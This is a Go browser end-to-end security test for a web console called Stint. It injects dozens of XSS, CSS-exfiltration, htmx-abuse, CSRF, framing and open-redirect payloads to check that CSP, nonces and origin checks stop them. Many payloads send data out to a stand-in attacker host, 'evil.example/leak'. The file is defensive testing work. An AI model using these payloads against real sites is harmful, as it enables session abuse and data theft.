//go:build e2e

package e2e

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"stint/internal/api"
	"stint/test/stage"
)

// The attacker's places. Everything of the browser goes through a proxy of the test's,
// which plays them: a site of another name, and another port of the same host, to which
// browsers send the cookies of Stint's, for cookies know no ports.
const (
	elsewhere = "evil.example"
	neighbour = "localhost:8999"
)

// hostile is that proxy. It puts an attack into the page that Stint answers with, as if
// something had not been escaped, and notes what the browser does.
type hostile struct {
	home *url.URL // Stint
	*httputil.ReverseProxy

	mu     sync.Mutex
	plant  string            // put at the end of main; NONCE is the page's
	naked  bool              // takes away what guards the page: the control of each attack
	pages  map[string]string // the attacker's, by host and path
	calls  []string          // of the browser: "POST /theme 303"
	leaked []string          // what came to the attacker beside their own pages
}

var pageNonce = regexp.MustCompile(`'nonce-([\w-]{22})'`)

func newHostile(home string) *hostile {
	at, err := url.Parse(home)
	if err != nil {
		panic(err)
	}
	h := &hostile{home: at}
	h.ReverseProxy = &httputil.ReverseProxy{FlushInterval: -1, Rewrite: func(r *httputil.ProxyRequest) {
		r.Out.URL.Scheme, r.Out.URL.Host, r.Out.Host = "http", at.Host, r.In.Host
		r.Out.Header.Del("Accept-Encoding")
	}, ModifyResponse: h.bend, ErrorHandler: func(w http.ResponseWriter, _ *http.Request, _ error) { w.WriteHeader(http.StatusBadGateway) }}
	return h
}

func (h *hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Host == h.home.Host {
		h.ReverseProxy.ServeHTTP(w, r)
		return
	}
	h.mu.Lock()
	page, own := h.pages[r.URL.Host+r.URL.Path]
	if !own && (r.URL.Host == elsewhere || r.URL.Host == neighbour) && r.URL.Path != "/favicon.ico" {
		h.leaked = append(h.leaked, r.Method+" "+r.URL.String())
	}
	h.mu.Unlock()
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	_, _ = io.WriteString(w, page)
}

// bend plants the attack, and takes the guards away where this is a control.
func (h *hostile) bend(res *http.Response) error {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.calls = append(h.calls, res.Request.Method+" "+res.Request.URL.RequestURI()+" "+strconv.Itoa(res.StatusCode))
	if !strings.HasPrefix(res.Header.Get("Content-Type"), "text/html") {
		return nil
	}
	text, err := io.ReadAll(res.Body)
	if err != nil {
		return err
	}
	nonce := ""
	if m := pageNonce.FindStringSubmatch(res.Header.Get("Content-Security-Policy")); m != nil {
		nonce = m[1]
	}
	if h.naked {
		for _, name := range []string{"Content-Security-Policy", "X-Frame-Options", "Cross-Origin-Opener-Policy", "Cross-Origin-Resource-Policy"} {
			res.Header.Del(name)
		}
		text = regexp.MustCompile(`<script[^>]*hx-csp[^>]*></script>`).ReplaceAll(text, nil)
		text = bytes.Replace(text, []byte("sse,hx-csp"), []byte("sse"), 1)
	}
	if h.plant != "" {
		text = bytes.Replace(text, []byte("</main>"), []byte(strings.ReplaceAll(h.plant, "NONCE", nonce)+"</main>"), 1)
	}
	res.Body, res.ContentLength = io.NopCloser(bytes.NewReader(text)), int64(len(text))
	res.Header.Set("Content-Length", strconv.Itoa(len(text)))
	return nil
}

// set begins a case.
func (h *hostile) set(plant string, naked bool, pages map[string]string) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.plant, h.naked, h.pages, h.calls, h.leaked = plant, naked, pages, nil, nil
}

// saw says whether a call with that beginning was answered.
func (h *hostile) saw(call string) bool {
	h.mu.Lock()
	defer h.mu.Unlock()
	for _, c := range h.calls {
		if strings.HasPrefix(c, call) {
			return true
		}
	}
	return false
}

// harm is what came of a case: what left the house, and what was done in the person's name.
func (h *hostile) harm() (all []string) {
	h.mu.Lock()
	defer h.mu.Unlock()
	all = append(all, h.leaked...)
	for _, c := range h.calls {
		f := strings.Fields(c)
		if f[0] == "POST" && f[2] < "4" && f[1] != "/request/preview" {
			all = append(all, c)
		}
	}
	return all
}

// wait waits for something of the proxy's to be true.
func wait(t *testing.T, what string, is func() bool) bool {
	t.Helper()
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		if is() {
			return true
		}
	}
	t.Errorf("%s: it did not happen", what)
	return false
}

// goes sends the browser to a place, and does not wait for it: some never end to load.
func (r *reader) goes(at string) {
	r.t.Helper()
	r.run(`setTimeout(() => { location.href = ` + quoted(at) + ` })`)
}

// planted is markup that got into a page although everything is escaped. does, if set, is
// what a person is made to do there. bare says that it harms where the guards are away,
// which is tried: an attack that harms nobody anywhere would prove nothing.
type planted struct {
	name, html, does string
	bare             bool
}

const leak = "//" + elsewhere + "/leak"

func plantings(r api.Request) []planted {
	approve := `{"answer":"approve","digest":"` + r.Digest + `"}`
	decide := "/r/" + r.ID + "/decide"
	click := `document.querySelector("#bait").click()`
	return []planted{
		{"T-13 an element that acts when it is there (UX 7.4)", `<div hx-post="/theme" hx-vals='{"theme":"dark","back":"/"}' hx-trigger="load"></div>`, "", true},
		{"T-13 the same with a nonce that is guessed", `<div hx-nonce="AAAAAAAAAAAAAAAAAAAAAA" hx-post="/theme" hx-vals='{"theme":"dark","back":"/"}' hx-trigger="load"></div>`, "", true},
		{"T-13 the same with an empty nonce", `<div hx-nonce="" hx-post="/theme" hx-vals='{"theme":"dark","back":"/"}' hx-trigger="load"></div>`, "", true},
		{"T-13 an act that a person begins", `<button id="bait" hx-post="/theme" hx-vals='{"theme":"dark","back":"/"}'>More</button>`, click, true},
		{"T-13 an act that takes the fields of another form along", `<div hx-post="/theme" hx-include="form" hx-trigger="load"></div>`, "", true},
		{"T-13 an act with headers of its own", `<div hx-post="/theme" hx-vals='{"theme":"dark"}' hx-headers='{"Sec-Fetch-Site":"same-origin"}' hx-trigger="load"></div>`, "", true},
		{"T-13 an act that an element inherits", `<div hx-vals:inherited='{"theme":"dark","back":"/"}'><div hx-post="/theme" hx-trigger="load"></div></div>`, "", true},
		{"T-13 an act with data- before it", `<div data-hx-post="/theme" data-hx-trigger="load"></div>`, "", false},
		{"T-13 code on an event of htmx's", `<b id="bait" hx-on:click="fetch('` + leak + `')">x</b>`, click, true},
		{"T-13 code in a trigger", `<b hx-get="/assets/x" hx-trigger="load[fetch('` + leak + `')]">x</b>`, "", true},
		{"T-13 code in values", `<b hx-get="/assets/x" hx-vals="js:{x: fetch('` + leak + `')}" hx-trigger="load">x</b>`, "", true},
		{"T-13 a call elsewhere", `<b hx-get="` + leak + `" hx-trigger="load">x</b>`, "", false},
		{"T-13 a stream from elsewhere", `<div hx-sse:connect="` + leak + `"></div>`, "", false},
		{"T-13 a piece of a page", `<hx-partial hx-target="main" hx-swap="innerHTML"><img src="/assets/none"></hx-partial>`, "", false},
		{"T-13 a link that became an act", `<a id="bait" hx-boost="true" hx-post="/theme" hx-vals='{"theme":"dark"}' href="/">x</a>`, click, true},
		{"T-12c a yes to what is on the page", `<div hx-post="` + decide + `" hx-vals='` + approve + `' hx-trigger="load"></div>`, "", false},
		{"T-07 a script", `<script>fetch("` + leak + `")</script>`, "", true},
		{"T-07 a script from elsewhere", `<script src="` + leak + `"></script>`, "", true},
		{"T-07 a script with a nonce that is guessed", `<script nonce="AAAAAAAAAAAAAAAAAAAAAA">fetch("` + leak + `")</script>`, "", true},
		{"T-07 a module", `<script type="module">import "` + "http:" + leak + `"</script>`, "", true},
		{"T-07 an image that fails", `<img src="/assets/none" onerror="fetch('` + leak + `')">`, "", true},
		{"T-07 SVG", `<svg onload="fetch('` + leak + `')"></svg>`, "", true},
		{"T-07 a detail that opens", `<details open ontoggle="fetch('` + leak + `')"><summary>x</summary></details>`, "", true},
		{"T-07 focus", `<input id="bait" onfocus="fetch('` + leak + `')">`, `document.querySelector("#bait").dispatchEvent(new FocusEvent("focus"))`, true},
		{"T-07 an address that runs", `<a id="bait" href="javascript:fetch('` + leak + `')">x</a>`, click, true},
		{"T-07 a form that runs", `<form action="javascript:fetch('` + leak + `')"><button id="bait">x</button></form>`, click, true},
		{"T-42 an image that tells", `<img src="` + leak + `?digest">`, "", true},
		{"T-42 an image that swallows the page", `<img src='` + leak + `?`, "", false},
		{"T-42 a style that reads a field", `<style>form:has(input[name=digest][value^="sha256"]) { background-image: url("` + leak + `") }</style>`, "", true},
		{"T-42 a style in an attribute", `<p style="background-image: url('` + leak + `')">x</p>`, "", true},
		{"T-42 a style sheet", `<link rel="stylesheet" href="` + leak + `">`, "", true},
		{"T-42 a film", `<video src="` + leak + `" autoplay></video>`, "", true},
		{"T-42 an object", `<object data="` + leak + `"></object>`, "", true},
		{"T-42 a frame", `<iframe src="` + leak + `"></iframe>`, "", true},
		{"T-42 a frame with a page in it", `<iframe srcdoc="<script>fetch('http:` + leak + `')</script>"></iframe>`, "", true},
		{"T-42 a link that tells", `<a id="bait" href="#x" ping="` + leak + `">x</a>`, click, true},
		{"T-13 a form that leads away", `<form action="` + leak + `"><button id="bait">Sign in again</button></form>`, click, true},
		{"T-13 a button that leads another's form away", `<form id="own" action="/requests"><button id="bait" formaction="` + leak + `">x</button></form>`, click, true},
		{"T-13 another base of addresses", `<base href="//` + elsewhere + `/"><form action="leak"><button id="bait">x</button></form>`, click, true},
	}
}

// TestConsoleAttacks is what a real browser does where escaping failed, and what pages of
// others can have it do. Each attack meets the guards; each that says so is tried where they
// are away, and harms there.
func TestConsoleAttacks(t *testing.T) {
	if _, err := os.Stat("/usr/bin/chromium"); err != nil {
		t.Fatal("this takes a browser: run make setup")
	}
	ctx, cancel := context.WithTimeout(t.Context(), 8*time.Minute)
	defer cancel()
	s, err := stage.Open(ctx, stage.Options{Bin: "../../bin", Store: set.Store, Named: true}, "mira")
	must(t, err)
	t.Cleanup(func() {
		if t.Failed() {
			t.Log("the end of stintd's log:\n" + s.LogTail(40))
		}
		if err := s.Close(); err != nil {
			t.Error(err)
		}
	})
	must(t, s.Credential(ctx, "orders-connector"))
	must(t, s.Documents(ctx, documents))
	must(t, s.Enrol(ctx, "sam", "--group", "support"))
	must(t, s.Enrol(ctx, "omar", "--group", "dba"))
	var r api.Request
	must(t, s.As("sam").JSON(ctx, &r, "request", "orders-db", "--as", "reader", "--for", "30m", "--why", "customer 4 waits", "--ticket", "INC-1", "--no-wait"))

	h := newHostile(s.URL)
	proxy := httptest.NewServer(h)
	defer proxy.Close()
	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath("/usr/bin/chromium"), chromedp.NoSandbox, chromedp.DisableGPU,
		chromedp.UserDataDir(t.TempDir()), chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true), chromedp.Flag("disable-quic", true), chromedp.Flag("disable-popup-blocking", true), chromedp.Flag("disable-features", "Translate,LocalNetworkAccessChecks"),
		chromedp.ProxyServer(proxy.URL), chromedp.Flag("proxy-bypass-list", "<-loopback>"))
	alloc, end := chromedp.NewExecAllocator(context.Background(), opts...)
	t.Cleanup(end)
	tab, end := chromedp.NewContext(alloc)
	t.Cleanup(func() { chromedp.Cancel(tab); end() })
	must(t, chromedp.Do(tab, chromedp.Navigate("about:blank")))
	tab, end = context.WithTimeout(tab, 5*time.Minute) // what hangs, fails
	t.Cleanup(end)
	omar := &reader{t, "omar", s.URL, tab}
	h.set("", false, nil)
	omar.enters(codeOf(t, s, "admin", "user", "enroll", "omar"))
	page := "/r/" + r.ID

	// The last thing on each page is one of ours, which acts: once it did, what was planted
	// before it would have.
	ours := 0
	try := func(p planted, naked bool) []string {
		ours++
		mark := fmt.Sprintf("/assets/mark/%d.css", ours)
		h.set(p.html+`<!-- ' " --><b hx-nonce="NONCE" hx-get="`+mark+`" hx-trigger="load" hx-swap="none">.</b>`, naked, nil)
		omar.open(page)
		based := naked && strings.Contains(p.html, "<base") // then ours is at the attacker's
		wait(t, p.name+": what is ours acts", func() bool { return h.saw("GET "+mark) || based || naked && len(h.harm()) > 0 })
		if p.does != "" {
			omar.run(p.does)
			time.Sleep(200 * time.Millisecond) // in which it would act
		}
		if naked && p.bare {
			for deadline := time.Now().Add(5 * time.Second); len(h.harm()) == 0 && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
				continue
			}
		}
		return h.harm()
	}
	all := plantings(r)
	for _, p := range all {
		if harm := try(p, false); len(harm) > 0 {
			t.Errorf("%s: %q", p.name, harm)
		}
	}
	for _, p := range all {
		if p.bare && len(try(p, true)) == 0 {
			t.Errorf("%s: nothing came of it without guards, so that it proves nothing", p.name)
		}
	}
	var is api.Request
	must(t, s.As("sam").JSON(ctx, &is, "status", r.ID))
	if is.State != api.RequestPending || len(is.Votes) > 0 {
		t.Errorf("the request is %s with %d votes", is.State, len(is.Votes))
	}

	// What pages of others have the browser do. Each says in its title when it is done.
	form := func(action, more string) string {
		return `<form id="f" method="post" action="` + s.URL + action + `" ` + more + `><input name="answer" value="approve"><input name="digest" value="` + r.Digest + `"><input name="theme" value="dark"></form><script>f.submit()</script>`
	}
	script := func(code string) string {
		return `<title>-</title><script>(async () => { try { ` + code + `; document.title = "over" } catch (e) { document.title = "over" } })()</script>`
	}
	decide := page + "/decide"
	foreign := []struct {
		name, html string
		refused    string // a call that Stint must have refused
	}{
		{"T-13 a form that sends itself", form(decide, ""), "POST " + decide + " 403"},
		{"T-13 a form of plain text", form(decide, `enctype="text/plain"`), "POST " + decide + " 403"},
		{"T-13 a form with files", form(decide, `enctype="multipart/form-data"`), "POST " + decide + " 403"},
		{"T-13 a form in another window", strings.Replace(form(decide, `target="other"`), "f.submit()", `open("about:blank", "other"); f.submit(); document.title = "over"`, 1), "POST " + decide + " 403"},
		{"T-13 a sign-out", form("/logout", ""), "POST /logout 403"},
		{"T-13 a sign-in as the attacker", form("/enroll", ""), "POST /enroll 403"},
		{"T-13 a call without CORS", script(`await fetch("` + s.URL + decide + `", {method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({answer: "approve", digest: "` + r.Digest + `"})})`), "POST " + decide + " 403"},
		{"T-13 a beacon", script(`navigator.sendBeacon("` + s.URL + decide + `", new URLSearchParams({answer: "approve", digest: "` + r.Digest + `"}))`), "POST " + decide + " 403"},
		{"T-13 a call with htmx's headers", script(`await fetch("` + s.URL + decide + `", {method: "POST", credentials: "include", headers: {"HX-Request": "true"}})`), ""},
		{"T-42 a page read from elsewhere", script(`const t = await (await fetch("` + s.URL + page + `", {credentials: "include"})).text(); await fetch("http:` + leak + `?" + t.length)`), ""},
		{"T-42 a stream read from elsewhere", script(`await new Promise((done, no) => { const e = new EventSource("` + s.URL + `/events?view=requests", {withCredentials: true}); e.onmessage = (m) => done(fetch("http:` + leak + `")); e.onerror = no })`), ""},
		{"T-42 a stream read with the page's header", script(`const a = await fetch("` + s.URL + `/events?view=requests", {credentials: "include", headers: {"Stint-Page-Nonce": "AAAAAAAAAAAAAAAAAAAAAA"}}); await fetch("http:` + leak + `?" + a.status)`), ""},
		{"T-42 a page as a script", `<script src="` + s.URL + page + `" onload="fetch('http:` + leak + `')" onerror="document.title='over'"></script>`, ""},
		{"T-42 a window that opened one", script(`const w = open("` + s.URL + page + `"); await new Promise((done) => setTimeout(done, 1500)); if (!w.closed) { w.location = "http:` + leak + `" }`), ""},
	}
	tried := 0
	for _, site := range []string{elsewhere, neighbour} {
		for _, f := range foreign {
			tried++
			over := fmt.Sprintf("over-%d", tried)
			h.set("", false, map[string]string{site + "/page": strings.ReplaceAll(f.html, "over", over)})
			omar.goes("http://" + site + "/page")
			if f.refused != "" {
				wait(t, f.name+" from "+site, func() bool { return h.saw(f.refused) })
			} else {
				wait(t, f.name+" from "+site, func() bool { return omar.js(`document.title`) == over || len(h.harm()) > 0 })
			}
			if harm := h.harm(); len(harm) > 0 {
				t.Errorf("%s, from %s: %q", f.name, site, harm)
			}
		}
	}

	// Frames: a page of Stint's that runs in one asks for its stream.
	for _, c := range []struct{ name, html, nested string }{
		{"T-13 a frame", `<iframe src="` + s.URL + page + `"></iframe>`, ""},
		{"T-13 a frame that nobody sees, under a button", `<iframe style="opacity:0;position:absolute" src="` + s.URL + page + `"></iframe><button>Win</button>`, ""},
		{"T-13 a frame in a frame", `<iframe src="/inner"></iframe>`, `<iframe src="` + s.URL + page + `"></iframe>`},
		{"T-13 a frame in a sandbox", `<iframe sandbox="allow-forms allow-scripts allow-same-origin" src="` + s.URL + page + `"></iframe>`, ""},
		{"T-13 an object", `<object data="` + s.URL + page + `"></object>`, ""},
		{"T-13 an embed", `<embed src="` + s.URL + page + `">`, ""},
	} {
		for _, naked := range []bool{false, true} {
			h.set("", naked, map[string]string{neighbour + "/page": c.html, neighbour + "/inner": c.nested})
			omar.goes("http://" + neighbour + "/page")
			wait(t, c.name, func() bool { return h.saw("GET " + page) })
			if naked {
				wait(t, c.name+" where nothing forbids it", func() bool { return h.saw("GET /events") })
				continue
			}
			time.Sleep(300 * time.Millisecond) // in which it would begin, as it does without guards
			if h.saw("GET /events") {
				t.Errorf("%s: the page runs in it", c.name)
			}
		}
	}

	// Where a sign-in leads, and what is left after it ends.
	h.set("", false, nil)
	for _, to := range []string{"//" + elsewhere + "/leak", "http://" + elsewhere + "/leak", `/\` + elsewhere + "/leak", "javascript:fetch('" + leak + "')"} {
		omar.open("/login?next=" + url.QueryEscape(to))
		if at := omar.js("location.origin"); at != s.URL || len(h.harm()) > 0 {
			t.Errorf("T-35 after %q the browser is at %q: %q", to, at, h.harm())
		}
	}
	if got := omar.js(`document.cookie`); got != "" {
		t.Errorf("T-35 a script reads the cookies %q", got)
	}
	omar.open(page)
	omar.see("customer 4 waits")
	if got := omar.js(`document.querySelector("script[nonce]").getAttribute("nonce")`); got != "" {
		t.Errorf("T-07 the nonce can be read by a selector: %q", got)
	}
	omar.press("Sign out")
	omar.see("Sign in")
	omar.run(`history.back()`)
	wait(t, "back after signing out", func() bool { return strings.Contains(omar.js("location.search"), "next=") })
	if text := omar.js("document.body.innerText"); strings.Contains(text, "customer 4 waits") {
		t.Error("T-35 what was private is shown after signing out")
	}
	must(t, s.As("sam").JSON(ctx, &is, "status", r.ID))
	if is.State != api.RequestPending || len(is.Votes) > 0 {
		t.Errorf("the request is %s with %d votes", is.State, len(is.Votes))
	}
	t.Logf("%d attacks in pages, %d from elsewhere, each from two places", len(all), len(foreign))
}
